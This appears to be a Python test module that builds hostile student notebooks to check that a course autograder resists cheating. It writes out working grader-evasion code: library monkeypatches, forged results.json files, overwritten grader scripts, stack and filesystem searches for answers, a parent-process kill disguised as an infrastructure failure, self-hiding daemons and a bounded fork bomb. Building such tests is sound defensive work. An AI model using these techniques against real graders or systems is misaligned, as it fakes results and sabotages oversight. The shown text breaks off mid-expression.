@@ -1,0 +1,867 @@
+"""Hostile and sloppy students: a reusable corpus of attacks on the Lab 8 autograder.
+
+``hostile_notebooks(solution_nb, blank_nb, kind)`` returns ``{case: (notebook, expectation)}``. Each case
+is an edit of the released blank student notebook (a cheat that does no real work) or of the executed
+reference solution (full work, then one thing broken), for a ``kind`` of model:
+
+* ``"text"`` (wikipedia, bbc): ``TextMLP``, the hook reads ``fc2`` before its ReLU;
+* ``"image"`` (cifar10): ``ImageCNN``, the hook reads ``fc1`` after its ReLU.
+
+Every edit names the text it anchors on and raises ``AnchorError`` when that text is not found exactly
+where expected, so a template change is noticed instead of silently building an unbroken notebook.
+
+The classes (``expectation["class"]``):
+
+0. controls: the solution (full marks) and the blank notebook (0);
+1. cheats from the blank notebook plus a few lines: monkeypatched libraries, fake grading outputs written
+   by a cell, by ``atexit``, by a signal handler or by a daemon, a replaced ``kernel_probes.py``, stack and
+   ``gc`` hunting, searching the filesystem for the solution, network access, fake ``results.json``, a
+   faked infrastructure failure, a hook that stores zeros, a CSV of zeros;
+2. fabricated training: real functions, but ``snapshots`` faked afterwards;
+3. processes that outlive the notebook (each runs a distinctive ``sleep 97x`` to look for afterwards);
+4. later cells that break the CSV after a correct export;
+5. containment: endless loops, swallowed interrupts, ``os._exit``/``sys.exit``/``exit()``, memory, a
+   fork-hold that exhausts the sandbox uid's process limit beside another submission;
+6. wrong work from honest-looking students (and the same slips hidden by a cheat).
+
+An expectation says what a *correct* grader must give (scores are compared with a 0.01 tolerance):
+
+``max_total``     the total is at most this
+``max``           {question: at most this}
+``question``      {question: exactly this}
+``full_for``      [questions that must get full points]
+``others_full``   every question not named in ``question``/``max`` gets full points
+``full``          every question gets full points
+``outcome``       results.json's extra_data.outcome must be this
+``no_survivors``  after grading, no process has this text in its command line
+``batch``         grading hint: "main" (default), "slow" (endless loops, ~5 min each with the release's
+                  timeouts), "nproc" (grade these together, two at a time, and nothing else)
+``class``, ``why`` what the case is and why the expectation holds
+
+``check_expectation(expectation, results, points)`` returns the list of violations (empty: as expected).
+"""
+from __future__ import annotations
+
+import copy
+import json
+import re
+import textwrap
+from pathlib import Path
+
+import nbformat
+from nbformat import NotebookNode
+
+KINDS = ("text", "image")
+MODEL = {"text": "TextMLP", "image": "ImageCNN"}
+POINTS = {"q1_hook": 2.0, "q2_capture": 3.0, "q3_export": 2.0, "q4_separation": 3.0}
+TOL = 0.01
+
+# ------------------------------------------------------------------------------------------ anchors
+SEED_LINE = "SEED = 0"
+IMPORTS = "import otter\n"
+HOOK = "self.embeddings = h.detach().cpu().numpy()"
+BLANK_HOOK = "in self.embeddings\n        ...\n"
+FORWARD = "    def forward(self, x):\n"
+IMAGE_H = "h = torch.relu(self.fc1(torch.flatten(x, 1)))"
+SNAP_NOGRAD = "with torch.inference_mode():"
+SNAP_RETURN = "return np.concatenate(parts)"
+TRAIN_ROWS = "x_train, y_train = x[train_rows], y[train_rows]"
+EPOCH0 = "snapshots = [snapshot(model, x)]  # epoch 0: before any update"
+TRAIN_STEP = "train_one_epoch(model, x_train, y_train, optimizer, batch_size, generator)"
+TRAIN_RETURN = "return np.stack(snapshots)"
+TRAIN_CALL = "snapshots = train_and_capture(model, x, y, train_rows, epochs=EPOCHS, lr=LR,"
+EXPORT_CALL = "csv_path = export_mantis(CSV_NAME, corpus, is_test, snapshots)"
+EXPORT_WRITE = "return write_mantis_csv(path, corpus.titles, corpus.labels, splits, snippets, snapshots)"
+SEP_DEF = "def separation_ratio(embeddings, labels):"
+SEP_BODY = "    labels = np.asarray(labels)\n    classes, label_index"
+DISPLAY = 'display(Image("epoch_grid.png"), Image("metrics.png"))'
+
+
+class AnchorError(AssertionError):
+    """An anchor text of an edit is not where the case expects it: the template changed."""
+
+
+def _load(nb) -> NotebookNode:
+    if isinstance(nb, (str, Path)):
+        return nbformat.read(str(nb), as_version=4)
+    return copy.deepcopy(nb)
+
+
+def _cells_with(nb, text: str) -> list[int]:
+    return [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and text in c.source]
+
+
+def _one_cell(nb, text: str) -> int:
+    hits = _cells_with(nb, text)
+    if len(hits) != 1:
+        raise AnchorError(f"{text!r}: expected in exactly one code cell, found in {len(hits)} — template changed?")
+    return hits[0]
+
+
+def replace(nb, old: str, new: str) -> NotebookNode:
+    """Replace `old` (exactly once, in exactly one code cell) by `new`."""
+    cell = nb.cells[_one_cell(nb, old)]
+    if cell.source.count(old) != 1:
+        raise AnchorError(f"{old!r}: found {cell.source.count(old)} times in its cell")
+    cell.source = cell.source.replace(old, new)
+    return nb
+
+
+def append_to(nb, anchor: str, code: str) -> NotebookNode:
+    cell = nb.cells[_one_cell(nb, anchor)]
+    cell.source = cell.source.rstrip("\n") + "\n\n" + _dedent(code)
+    return nb
+
+
+def prepend_to(nb, anchor: str, code: str) -> NotebookNode:
+    cell = nb.cells[_one_cell(nb, anchor)]
+    cell.source = _dedent(code) + "\n\n" + cell.source
+    return nb
+
+
+def insert_after(nb, anchor: str, code: str) -> NotebookNode:
+    nb.cells.insert(_one_cell(nb, anchor) + 1, nbformat.v4.new_code_cell(_dedent(code)))
+    return nb
+
+
+def insert_before(nb, anchor: str, code: str) -> NotebookNode:
+    nb.cells.insert(_one_cell(nb, anchor), nbformat.v4.new_code_cell(_dedent(code)))
+    return nb
+
+
+def append_cell(nb, code: str) -> NotebookNode:
+    """A new last code cell (after the figures; the written-answer cells are markdown)."""
+    _one_cell(nb, DISPLAY)   # the notebook still ends the way the cases assume
+    nb.cells.append(nbformat.v4.new_code_cell(_dedent(code)))
+    return nb
+
+
+def _dedent(code: str) -> str:
+    return textwrap.dedent(code).strip("\n") + "\n"
+
+
+def model_line(nb, kind: str) -> str:
+    """The training cell's `model = TextMLP(...)` / `model = ImageCNN(...)` line."""
+    cell = nb.cells[_one_cell(nb, TRAIN_CALL)]
+    m = re.search(rf"^model = {MODEL[kind]}\(.*\)$", cell.source, re.M)
+    if not m:
+        raise AnchorError(f"no `model = {MODEL[kind]}(...)` line in the training cell")
+    return m.group(0)
+
+
+# ------------------------------------------------------------------------------------------ snippets
+FAKE_RESULTS = json.dumps({"score": 10.0, "output": "Score 10/10: 4 of 4 questions passed.",
+                           "tests": [{"name": q, "score": p, "max_score": p, "status": "passed",
+                                      "output": "All checks passed."} for q, p in POINTS.items()]})
+
+# Canned "correct-looking" grading outputs, written without running a single student function: the hook
+# report of a clean hook (arrays of zeros, right shapes), no-autograd flags, separation 1.0, the export
+# probe's CSV written from the probe's own inputs, and a notebook CSV + `snapshots` of zeros that agree.
+FAKE_WRITER = r'''
+def _lab8_fake(root=None, csv=True, results=True):
+    import glob, json, os
+    import numpy as np
+    root = root or os.getcwd()
+    g = os.path.join(root, "_grading")
+    out, inp = os.path.join(g, "out"), os.path.join(g, "in")
+    os.makedirs(out, exist_ok=True)
+    with open(os.path.join(inp, "probes.json")) as f:
+        spec = json.loads(f.read())
+
+    def dump(name, data):
+        with open(os.path.join(out, name), "w") as f:
+            f.write(json.dumps(data))
+
+    dim = spec["hook"]["args"][-1][-1]
+    batches = spec["hook"]["batches"]
+    dump("hook.json", {"passes": [{"type": "ndarray", "requires_grad": False} for _ in batches], "off": "untouched"})
+    for k, b in enumerate(batches):
+        np.save(os.path.join(out, "hook_emb%d.npy" % k), np.zeros((b["size"], dim), np.float32))
+    p = spec["probe_model"]
+    n_snap = len(np.load(os.path.join(inp, "snap_x.npy")))
+    n_train = len(np.load(os.path.join(inp, "train_x.npy")))
+    epochs = spec["train"]["epochs"]
+    clean = lambda n: {"capture_grad": [False] * n, "capture_passes": [[False, False]] * n}   # both report formats
+    dump("snapshot.json", clean(1))
+    np.save(os.path.join(out, "snapshot.npy"), np.zeros((n_snap, p["dim"]), np.float32))
+    dump("train.json", clean(epochs + 1))
+    np.save(os.path.join(out, "train.npy"), np.zeros((epochs + 1, n_train, p["dim"]), np.float32))
+    dump("separation.json", {"values": [1.0] * spec["separation"]["cases"]})
+    from replab.corpus import Corpus
+    from replab.features import heldout_mask
+    from replab.mantis import write_mantis_csv
+    e = spec["export"]
+    snaps = np.load(os.path.join(inp, "export_snapshots.npy"))
+    is_t = np.load(os.path.join(inp, "export_is_test.npy"))
+    images = np.zeros((len(e["titles"]), 32, 32, 3), np.uint8) if e["kind"] == "image" else None
+    c = Corpus(name="probe", titles=e["titles"], labels=e["labels"],
+               texts=e["texts"] if e["kind"] == "text" else None, images=images)
+    write_mantis_csv(os.path.join(out, "export.csv"), c.titles, c.labels, np.where(is_t, "test", "train"),
+                     [c.snippet(i) for i in range(len(c))], snaps)
+    dump("export.json", {"written": True})
+    corpus = Corpus.load(sorted(glob.glob(os.path.join(root, "data", "*.npz")))[0])
+    is_test = heldout_mask(corpus.labels, test_fraction=0.25, seed=0)
+    zeros = np.zeros((len(snaps), len(corpus), dim), np.float32)
+    np.save(os.path.join(out, "snapshots.npy"), zeros)
+    np.save(os.path.join(out, "separation.npy"), np.ones(len(snaps)))
+    dump("harvest.json", {"defined": spec["names"],
+                          "snapshots_structure": {"container": "single", "type": "ndarray", "dtype": "float32"}})
+    if csv:
+        write_mantis_csv(os.path.join(root, "mantis_embeddings.csv"), corpus.titles, corpus.labels,
+                         np.where(is_test, "test", "train"), [corpus.snippet(i) for i in range(len(corpus))], zeros)
+    if results:
+        for path in ("results.json", "_grading/results.json", "_grading/out/results.json", "../results.json",
+                     "../results/results.json", "../../results/results.json", "/autograder/results/results.json",
+                     "/tmp/results.json", os.path.expanduser("~/results.json")):
+            try:
+                with open(os.path.join(root, path), "w") as f:
+                    f.write(FAKE_RESULTS_TEXT)
+            except OSError:
+                pass
+'''.replace("FAKE_RESULTS_TEXT", repr(FAKE_RESULTS))
+
+MONKEYPATCH = r'''
+# "Make every check pass": patch the libraries the grader's code uses in this kernel.
+import builtins, json as _json, numpy as _np, torch as _torch
+_real_dump, _real_save = _json.dump, _np.save
+
+def _dump(obj, fp, *a, **k):
+    name = getattr(fp, "name", "")
+    if isinstance(obj, dict):
+        if name.endswith("hook.json"):
+            out = name.rsplit("/", 1)[0]
+            spec = _json.loads(open(out + "/../in/probes.json").read())
+            dim = spec["hook"]["args"][-1][-1]
+            for k_, b in enumerate(spec["hook"]["batches"]):
+                _real_save(out + "/hook_emb%d.npy" % k_, _np.zeros((b["size"], dim), _np.float32))
+            obj = {"passes": [{"type": "ndarray", "requires_grad": False} for _ in spec["hook"]["batches"]],
+                   "off": "untouched"}
+        elif name.endswith(("snapshot.json", "train.json")):
+            obj = {"capture_grad": [False], "capture_passes": [[False, False]]}
+        elif name.endswith("separation.json"):
+            obj = {"values": [1.0, 1.0, 1.0, 1.0]}
+        elif name.endswith("harvest.json"):
+            obj = {k_: v for k_, v in obj.items() if not k_.endswith("_problem")}
+    return _real_dump(obj, fp, *a, **k)
+
+_json.dump = _dump
+_np.allclose = _np.array_equal = lambda *a, **k: True
+_np.isfinite = lambda a, *r, **k: _np.ones(_np.shape(a), bool)
+_torch.allclose = lambda *a, **k: True
+_torch.is_grad_enabled = lambda: False
+builtins.callable = lambda o: True   # every name the grader looks for is 'defined'
+'''
+
+KERNEL_PROBES = FAKE_WRITER + r'''
+
+def run(ns, probe, in_dir, out_dir):
+    """A replacement of the grader's kernel probes: no student function is called; canned outputs."""
+    import os
+    import numpy as np
+    import torch
+    if probe != "separation":   # the last probe: write everything then
+        return
+    _lab8_fake(os.path.dirname(os.path.dirname(in_dir)))
+    # a "correct" snapshot without any snapshot(): the probe model's body layer, computed here
+    with np.load(os.path.join(in_dir, "probe_model.npz")) as z:
+        w, b = torch.from_numpy(z["body.weight"]), torch.from_numpy(z["body.bias"])
+    x = torch.from_numpy(np.load(os.path.join(in_dir, "snap_x.npy")))
+    np.save(os.path.join(out_dir, "snapshot.npy"), torch.nn.functional.linear(x, w, b).numpy())
+'''
+
+REPLACE_PROBES = '''
+import os
+for _name, _text in (("kernel_probes.py", {probes!r}),
+                     ("driver.py", "raise SystemExit('replaced')\\n")):
+    _path = os.path.join("_grading", "bin", _name)
+    try:
+        os.chmod(_path, 0o644)
+    except OSError:
+        pass
+    with open(_path, "w") as _f:
+        _f.write(_text)
+print("replaced", sorted(os.listdir(os.path.join("_grading", "bin"))))
+'''
+
+STACK_HUNT = r'''
+# Look for the grader's expected answers in the call stack and in every live object, while the probes run.
+import gc, inspect, json, os
+
+def _lab8_hunt(where):
+    found = {"where": where}
+    for fr in inspect.stack()[1:]:
+        for k, v in list(fr.frame.f_locals.items()):
+            if any(w in k.lower() for w in ("expect", "answer", "want", "right", "refer", "spec", "seed", "out_dir")):
+                found[f"{fr.function}:{k}"] = repr(v)[:300]
+    hits = []
+    for o in gc.get_objects():
+        try:
+            if isinstance(o, dict) and {"right", "all rows"} & set(o) or isinstance(o, dict) and "expected" in o:
+                hits.append(sorted(map(str, o))[:10])
+        except Exception:
+            pass
+    found["gc"] = hits[:20]
+    with open("mantis_embeddings.csv", "a") as f:   # the one file the grader keeps: a channel to read back
+        f.write(json.dumps(found)[:20000] + "\n")
+    return found
+
+def separation_ratio(embeddings, labels):
+    found = _lab8_hunt("separation_ratio")
+    for v in found.values():
+        try:
+            return float(v)
+        except (TypeError, ValueError):
+            pass
+    return 0.0
+
+def snapshot(model, x, batch_size=256):
+    _lab8_hunt("snapshot")
+    return None
+
+class _Hunting({model}):
+    def forward(self, x):
+        _lab8_hunt("forward")
+        return super().forward(x)
+
+{model} = _Hunting
+'''
+
+FS_SEARCH = r'''
+# Search every folder this process can see for the reference solution, the grading record or another
+# submission; if a solution is found, use it and redo the notebook's work.
+import json, os, time, zipfile
+_t0, _seen, _hits = time.time(), 0, []
+_skip = {"/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/lib64", "/bin", "/sbin", "/var/lib", "/snap", "/boot"}
+_roots = ["/autograder", "/work", "/tmp", os.path.abspath(".."), os.path.abspath("../.."), "/root", "/home",
+          "/srv", "/opt", "/mnt", "/"]
+_done = set()
+for _r in _roots:
+    for _d, _ds, _fs in os.walk(_r):
+        if _d in _done:
+            _ds[:] = []
+            continue
+        _done.add(_d)
+        _ds[:] = [x for x in _ds if os.path.join(_d, x) not in _skip
+                  and x not in ("site-packages", "node_modules", ".git", "__pycache__", "dist-packages")]
+        _seen += 1
+        if {"separation.py", "capture.py", "models.py"} <= set(_fs):
+            _hits.append(("solutions", _d))
+        for _f in _fs:
+            if _f.endswith((".ipynb", "_autograder.zip")) or _f in ("grading.json", "results.json", "checks.py"):
+                _hits.append(("file", os.path.join(_d, _f)))
+        if _seen > 60000 or time.time() - _t0 > 60:
+            break
+print("folders seen:", _seen, "in", round(time.time() - _t0, 1), "s")
+print("found:", json.dumps(_hits[:60], indent=0))
+
+_sources = []
+for _kind, _p in _hits:
+    try:
+        if _kind == "solutions":
+            _sources += [open(os.path.join(_p, _n)).read() for _n in ("models.py", "capture.py", "export.py", "separation.py")
+                         if os.path.isfile(os.path.join(_p, _n))]
+        elif _p.endswith("_autograder.zip"):
+            with zipfile.ZipFile(_p) as _z:
+                _sources += [_z.read(_n).decode() for _n in _z.namelist()
+                             if _n.startswith("solutions/") and _n.rsplit("/", 1)[-1] in ("models.py", "capture.py", "export.py", "separation.py")]
+        elif _p.endswith(".ipynb") and "lab8" in _p and not _p.startswith(os.getcwd()):
+            _cells = json.load(open(_p))["cells"]
+            _code = ["".join(c["source"]) for c in _cells if c["cell_type"] == "code"]
+            if any("# BEGIN SOLUTION" in c for c in _code):
+                _sources += [c for c in _code if c.lstrip().startswith(("def ", "class "))]
+    except Exception as _e:
+        print("could not read", _p, type(_e).__name__)
+    if _sources:
+        break
+print("solution sources found:", len(_sources))
+if _sources:
+    for _s in _sources:
+        exec(compile(_s, "found", "exec"), globals())
+    generator = seed_everything(SEED)
+    {model_line}
+    snapshots = train_and_capture(model, x, y, train_rows, epochs=EPOCHS, lr=LR, batch_size=BATCH_SIZE, generator=generator)
+    export_mantis(CSV_NAME, corpus, is_test, snapshots)
+    separation = separation_by_epoch(snapshots, corpus.labels, is_test)
+    print("redone with the found solution:", np.round(separation, 2))
+'''
+
+NETWORK = r'''
+# Reach the outside: DNS, a raw socket, HTTPS to PyPI and GitHub (a solution could be fetched, answers sent out).
+import socket, urllib.request
+for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443), ("github.com", 443)):
+    try:
+        socket.create_connection((_host, _port), timeout=3).close()
+        print("NETWORK OPEN", _host, _port)
+    except OSError as _e:
+        print("no network to", _host, _port, type(_e).__name__, _e)
+try:
+    print("HTTP", urllib.request.urlopen("https://pypi.org/simple/numpy/", timeout=5).status)
+except Exception as _e:
+    print("no HTTP:", type(_e).__name__)
+'''
+
+FAKE_INFRA = r'''
+# Make the run look like an infrastructure failure ("not the notebook's fault, a TA will regrade it"):
+# a status that says the kernel never started, then the driver (this kernel's parent, same uid) is killed.
+import json, os, signal
+_status = {"kernel_starts": 2, "infrastructure": "the Python kernel did not start (twice)", "cells": {},
+           "probes": {}, "skipped": [], "finished": True}
+with open(os.path.join("_grading", "out", "status.json"), "w") as _f:
+    json.dump(_status, _f)
+os.kill(os.getppid(), signal.SIGKILL)
+'''
+
+DAEMON_LOOP = r'''
+import os, sys, time
+if os.fork():
+    os._exit(0)
+os.setsid()
+if os.fork():
+    os._exit(0)
+for fd in (0, 1, 2):
+    try:
+        os.close(fd)
+    except OSError:
+        pass
+t0 = time.time()
+while time.time() - t0 < LIFETIME:
+    if os.path.exists(os.path.join("_grading", "out", "separation.json")):
+        try:
+            _lab8_fake()
+        except Exception:
+            pass
+        time.sleep(0.02)
+    else:
+        time.sleep(0.2)
+'''
+
+SPAWN_DAEMON = '''
+import os, subprocess, sys
+# argv and environment changed: it looks like `sleep {tag}`, with nothing of the kernel's environment
+subprocess.Popen([sys.executable, "-c", {code!r}, "sleep", "{tag}", str(os.getppid())], cwd=os.getcwd(),
+                 start_new_session=True,
+                 env={{"PATH": "/usr/bin:/bin", "PYTHONPATH": os.getcwd(), "NOT_A_DAEMON": "1"}},
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+SLEEPERS = '''
+# Background processes that outlive the notebook: a plain child, a new session, a double fork, a shell `&`.
+import os, subprocess
+subprocess.Popen(["sleep", "972"], start_new_session=True)
+subprocess.Popen(["nohup", "sleep", "973"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setpgrp)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "976"])
+    os._exit(0)
+os.system("(setsid sleep 977 &) ; (sleep 978 &)")
+'''
+
+# A process whose pid changes all the time (fork, parent exits): a list of the uid's processes taken
+# before killing them is always a little out of date. Once the grading driver (the kernel's parent,
+# passed as the last argument) is gone, it sabotages the outputs: only visible if it outlives the run.
+HOPPER = r'''
+import os, sys, time
+DRIVER = int(sys.argv[-1])
+t0 = time.time()
+while time.time() - t0 < LIFETIME:
+    if os.fork():
+        os._exit(0)
+    time.sleep(0.002)
+    try:
+        os.kill(DRIVER, 0)       # the grading driver still runs: wait
+        alive = True
+    except ProcessLookupError:
+        alive = False
+    except PermissionError:
+        alive = True
+    if not alive:                # the student side is over: anything written now is after the fact
+        try:
+            os.remove("mantis_embeddings.csv")
+            with open(os.path.join("_grading", "out", "separation.json"), "w") as f:
+                f.write('{"values": ["sabotaged", "sabotaged", "sabotaged", "sabotaged"]}')
+        except OSError:
+            pass
+'''
+
+FORK_HOLD = '''
+# A bounded fork bomb: sleeping children until the process limit says no, then a few given back so this
+# kernel can go on; held for a minute (the sandbox uid's limit is what stops it).
+import subprocess, time
+_held = []
+for _ in range(2000):
+    try:
+        _held.append(subprocess.Popen(["sleep", "975"]))
+    except OSError as _e:
+        print("stopped at", len(_held), type(_e).__name__)
+        break
+for _p in _held[-8:]:
+    _p.kill()
+    _p.wait()
+print("holding", len(_held) - 8, "processes")
+time.sleep(60)
+for _p in _held:
+    _p.kill()
+for _p in _held:
+    _p.wait()
+'''
+
+HIDDEN_SLIP_ATEXIT = r'''
+# Hide the hook's slips from the grader: after the probes, mark every hook pass detached and "off" clean.
+import atexit, json, os
+
+def _lab8_clean_hook():
+    path = os.path.join(os.getcwd(), "_grading", "out", "hook.json")
+    try:
+        report = json.load(open(path))
+    except (OSError, ValueError):
+        return
+    for row in report.get("passes", []):
+        row["requires_grad"] = False
+    report["off"] = "untouched"
+    with open(path, "w") as f:
+        json.dump(report, f)
+
+atexit.register(_lab8_clean_hook)
+'''
+
+HIDE_GRAD_PATCH = r'''
+# torch.is_grad_enabled lies only to the grader's probe model (its forward records the flag).
+import sys, torch
+_real_grad = torch.is_grad_enabled
+
+def _is_grad_enabled():
+    caller = sys._getframe(1)
+    if caller.f_code.co_name == "forward" and type(caller.f_locals.get("self")).__name__ == "ProbeModel":
+        return False
+    return _real_grad()
+
+torch.is_grad_enabled = _is_grad_enabled
+'''
+
+HIDE_GRAD_ATEXIT = r'''
+# After the probes: every capture pass "ran without autograd".
+import atexit, json, os
+
+def _lab8_no_grad_flags():
+    for name in ("snapshot.json", "train.json"):
+        path = os.path.join(os.getcwd(), "_grading", "out", name)
+        try:
+            report = json.load(open(path))
+        except (OSError, ValueError):
+            continue
+        for key, value in report.items():   # [autograd on] or [[autograd on, train mode]] per capture pass
+            if isinstance(value, list) and value:
+                report[key] = [[False, False] if isinstance(v, list) else False for v in value]
+        with open(path, "w") as f:
+            json.dump(report, f)
+
+atexit.register(_lab8_no_grad_flags)
+'''
+
+CSV_EDIT = '''
+# A later cell "tidies" the exported CSV.
+import os
+import pandas as pd
+_df = pd.read_csv(CSV_NAME, dtype=str, keep_default_na=False)
+{edit}
+'''
+
+
+def _csv_case(edit: str) -> str:
+    return CSV_EDIT.format(edit=_dedent(edit))
+
+
+# ------------------------------------------------------------------------------------------ the corpus
+def hostile_notebooks(solution_nb, blank_nb, kind: str) -> dict[str, tuple[NotebookNode, dict]]:
+    """{case: (notebook, expectation)} for one kind ("text" or "image"); see the module docstring."""
+    if kind not in KINDS:
+        raise ValueError(f"kind {kind!r}: expected one of {KINDS}")
+    solution, blank = _load(solution_nb), _load(blank_nb)
+    for nb, name, anchors in ((solution, "solution", (HOOK, SNAP_NOGRAD, TRAIN_ROWS, EPOCH0, TRAIN_STEP, EXPORT_CALL)),
+                              (blank, "blank", (BLANK_HOOK, TRAIN_CALL, EXPORT_CALL, SEP_DEF))):
+        for a in anchors:
+            try:
+                _one_cell(nb, a)
+            except AnchorError as e:
+                raise AnchorError(f"{name} notebook: {e}") from None
+    model = MODEL[kind]
+    mline = model_line(blank, kind)
+    cases: dict[str, tuple[NotebookNode, dict]] = {}
+
+    def sol(*edits):
+        nb = _load(solution)
+        for edit in edits:
+            edit(nb)
+        return nb
+
+    def blk(*edits):
+        nb = _load(blank)
+        for edit in edits:
+            edit(nb)
+        return nb
+
+    def add(name, nb, **expectation):
+        if name in cases:
+            raise ValueError(f"case {name!r} defined twice")
+        expectation.setdefault("batch", "main")
+        cases[name] = (nb, expectation)
+
+    # --- 0: controls
+    add("control_solution", sol(), full=True, **{"class": 0, "why": "the executed reference solution"})
+    add("control_blank", blk(), max_total=0, **{"class": 0, "why": "the untouched student notebook"})
+
+    # --- 1: cheats from the blank notebook
+    zero = dict(max_total=0)
+    add("cheat_monkeypatch_libs", blk(lambda n: prepend_to(n, IMPORTS, MONKEYPATCH)), **zero,
+        **{"class": 1, "why": "json.dump/np.allclose/np.isfinite/torch.is_grad_enabled/builtins.callable patched in the kernel; no work"})
+    add("cheat_prewritten_fakes", blk(lambda n: append_cell(n, FAKE_WRITER + "\n_lab8_fake()\n")), **zero,
+        **{"class": 1, "why": "a cell writes canned outputs into _grading/out, a CSV of zeros and results.json files before the probes run"})
+    add("cheat_atexit_fakes", blk(lambda n: append_cell(n, FAKE_WRITER + "\nimport atexit\natexit.register(_lab8_fake)\n")),
+        **zero, **{"class": 1, "why": "an atexit handler writes the canned outputs when the kernel shuts down, after the probes"})
+    add("cheat_signal_fakes", blk(lambda n: append_cell(n, FAKE_WRITER + _dedent('''
+        import atexit, os, signal, time
+        def _on_signal(signum, frame):
+            _lab8_fake()
+            os._exit(0)
+        for _s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGUSR2, signal.SIGQUIT):
+            signal.signal(_s, _on_signal)
+        atexit.register(time.sleep, 20)   # do not leave on a polite shutdown: wait for the SIGTERM
+        '''))), **zero, **{"class": 1, "why": "signal handlers (SIGTERM/SIGINT/SIGHUP/...) write the canned outputs; atexit stalls so the kernel gets SIGTERM"})
+    add("cheat_replace_kernel_probes", blk(lambda n: append_cell(n, REPLACE_PROBES.format(probes=KERNEL_PROBES))), **zero,
+        **{"class": 1, "why": "_grading/bin/kernel_probes.py (and driver.py) rewritten: canned outputs, a snapshot computed from the probe model itself"})
+    add("cheat_stack_and_gc", blk(lambda n: append_cell(n, STACK_HUNT.replace("{model}", model))), **zero,
+        **{"class": 1, "why": "student functions walk the call stack and gc.get_objects() for expected values during the probes"})
+    add("cheat_filesystem_search", blk(lambda n: append_cell(n, FS_SEARCH.replace("{model_line}", mline))), **zero,
+        **{"class": 1, "why": "walks /, /autograder, /tmp, ../, /work for the solution, grading.json, zips, other notebooks; uses what it finds"})
+    add("cheat_network", blk(lambda n: append_cell(n, NETWORK)), **zero,
+        **{"class": 1, "why": "tries DNS, sockets and HTTPS (see the executed notebook's output for what was reachable)"})
+    add("cheat_fake_results_everywhere", blk(lambda n: append_cell(n, FAKE_WRITER + _dedent('''
+        import atexit, os
+        _lab8_fake(csv=False)
+        atexit.register(lambda: _lab8_fake(csv=False))
+        '''))), **zero, **{"class": 1, "why": "results.json with 10/10 written into every folder it can reach, now and at exit"})
+    add("cheat_fake_infrastructure", blk(lambda n: append_cell(n, FAKE_INFRA)), max_total=0, outcome="graded",
+        **{"class": 1, "why": "kills its driver after writing a status that blames the infrastructure: must not read as a grader fault"})
+    add("cheat_hook_stores_zeros", blk(lambda n: replace(n, BLANK_HOOK, (
+        "in self.embeddings\n        if self.capture:\n"
+        "            self.embeddings = np.zeros((x.shape[0], self.classifier.in_features), np.float32)\n"))), **zero,
+        **{"class": 1, "why": "forward stores zeros of the right shape when capture is on: no layer is read"})
+    add("cheat_zero_snapshots_csv", blk(lambda n: append_cell(n, '''
+        snapshots = np.zeros((EPOCHS + 1, len(corpus), EMBEDDING_DIM), np.float32)
+        write_mantis_csv(CSV_NAME, corpus.titles, corpus.labels, np.where(is_test, "test", "train"),
+                         [corpus.snippet(i) for i in range(len(corpus))], snapshots)
+        ''')), max_total=0.67, max={"q3_export": 0.67},
+        **{"class": 1, "why": "no function written; `snapshots` = zeros and a CSV of those zeros. At most the CSV's "
+                              "given columns (titles/classes/split, all from given cells) may count"})
+    add("cheat_daemon_fakes", blk(lambda n: append_cell(n, SPAWN_DAEMON.format(
+        code=FAKE_WRITER + DAEMON_LOOP.replace("LIFETIME", "300"), tag="971"))), max_total=0, no_survivors="sleep 971",
+        **{"class": 1, "why": "a double-forked setsid daemon (argv `sleep 971`, own env) rewrites canned outputs once the probes are done"})
+
+    # --- 2: fabricated training (real functions; `snapshots` replaced right after the training cell)
+    fab = dict(max={"q2_capture": 2}, others_full=True)
+    fabrications = {
+        "fab_epochs_copied": "snapshots = np.stack([np.asarray(snapshots[0])] + [np.asarray(snapshots[-1])] * EPOCHS)",
+        "fab_epochs_reordered": "snapshots = np.asarray(snapshots)[[0, 2, 1, 3, 4, 5, 6, 7, 8, 10, 9]]",
+        "fab_interpolated": ("_s = np.asarray(snapshots, dtype=np.float64)\n"
+                             "snapshots = np.stack([_s[0] + k / EPOCHS * (_s[-1] - _s[0]) for k in range(EPOCHS + 1)]).astype(np.float32)"),
+        "fab_last_plus_noise": ("_s = np.asarray(snapshots)\n_r = np.random.default_rng(1)\n"
+                                "snapshots = np.stack([_s[0]] + [_s[-1] + _r.normal(0, 0.01 * _s[-1].std(), _s[-1].shape).astype(np.float32)"
+                                " for _ in range(EPOCHS)])"),
+        "fab_from_labels": ("_s = np.asarray(snapshots)\n_c = np.random.default_rng(2).normal(size=(len(corpus.class_names), _s.shape[2]))\n"
+                            "_ids = np.asarray(corpus.label_ids)\n"
+                            "snapshots = np.stack([_s[0] * (1 - k / EPOCHS) + _c[_ids] * _s[0].std() * k / EPOCHS for k in range(EPOCHS + 1)]).astype(np.float32)"),
+        "fab_other_seed": (f"generator = seed_everything(SEED + 1)\n{mline}\n"
+                           "snapshots = train_and_capture(model, x, y, train_rows, epochs=EPOCHS, lr=LR, batch_size=BATCH_SIZE, generator=generator)"),
+        "fab_one_epoch_repeated": "snapshots = np.stack([np.asarray(s) for s in snapshots[:6]] + [np.asarray(snapshots[5])] * (EPOCHS - 5))",
+    }
+    for name, code in fabrications.items():
+        add(name, sol(lambda n, c=code: insert_after(n, TRAIN_CALL, "# snapshots 'improved' after training\n" + c)), **fab,
+            **{"class": 2, "why": "functions right, but `snapshots` (and so the CSV) is not the notebook's training"})
+    add("fab_seed_changed", sol(lambda n: replace(n, SEED_LINE, "SEED = 1")), max={"q2_capture": 2},
+        full_for=["q1_hook", "q4_separation"],
+        **{"class": 2, "why": "SEED = 1 in the set-up cell: another split and another training than the lab's"})
+
+    # --- 3: processes that outlive the notebook
+    add("daemon_sleepers", sol(lambda n: insert_after(n, IMPORTS, SLEEPERS)), full=True, no_survivors="sleep 97",
+        **{"class": 3, "why": "sleep 972/973/976/977/978 in new sessions, double-forked, via the shell: all must die, no marks lost"})
+    add("daemon_fork_hopper", sol(lambda n: insert_after(n, IMPORTS, SPAWN_DAEMON.format(
